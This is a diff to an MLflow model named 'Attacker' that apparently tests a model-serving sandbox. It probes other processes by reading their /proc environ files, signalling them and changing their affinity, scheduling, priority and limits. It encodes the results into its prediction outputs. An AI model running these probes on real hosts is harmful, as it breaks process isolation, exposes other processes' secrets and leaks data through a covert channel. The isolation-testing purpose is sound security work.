@@ -4,9 +4,12 @@
 """
 
 import ctypes
+import errno
 import glob
 import os
+import resource
 import socket
+from pathlib import Path
 
 import mlflow
 import numpy as np
@@ -105,27 +108,55 @@ def read_the_registry(config):
     open(config["folder"] + "/mlflow.db", "rb").close()
 
 
-@attempt
-def read_variables_of_others(config):
+def on_others(action):
+    """Act on the first process of others that lets us."""
     for pid in others():
         try:
-            with open(f"/proc/{pid}/environ", "rb") as file:
-                file.read()
-            return
+            return action(pid)
         except OSError:
             pass
-    raise OSError("none can be read")
+    raise OSError("none can be reached")
+
+
+@attempt
+def read_variables_of_others(config):
+    on_others(lambda pid: Path(f"/proc/{pid}/environ").read_bytes())
 
 
 @attempt
 def signal_others(config):
-    for pid in others():
+    on_others(lambda pid: os.kill(pid, 0))
+
+
+@attempt
+def pin_others(config):
+    """A processor that is not there is refused by the kernel where others may be pinned, and ignored by the filter."""
+
+    def pin(pid):
         try:
-            os.kill(pid, 0)
-            return
-        except OSError:
-            pass
-    raise OSError("none can be reached")
+            os.sched_setaffinity(pid, [1023])
+        except OSError as error:
+            if error.errno == errno.EINVAL:
+                return
+            raise
+        raise OSError("it has no effect")
+
+    on_others(pin)
+
+
+@attempt
+def reschedule_others(config):
+    on_others(lambda pid: os.sched_setscheduler(pid, os.sched_getscheduler(pid), os.sched_getparam(pid)))
+
+
+@attempt
+def renice_others(config):
+    on_others(lambda pid: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid)))
+
+
+@attempt
+def limit_others(config):
+    on_others(lambda pid: resource.prlimit(pid, resource.RLIMIT_CORE))
 
 
 @attempt
@@ -197,7 +228,7 @@ class Attacker(mlflow.pyfunc.PythonModel):
                 pass
 
     def predict(self, context, model_input, params=None):
-        return 0.1 + 0.3 * (np.arange(len(model_input)) % 2) + self.bits / 2.0**26
+        return 0.1 + 0.3 * (np.arange(len(model_input)) % 2) + self.bits / 2.0**30
 
 
 mlflow.models.set_model(Attacker())
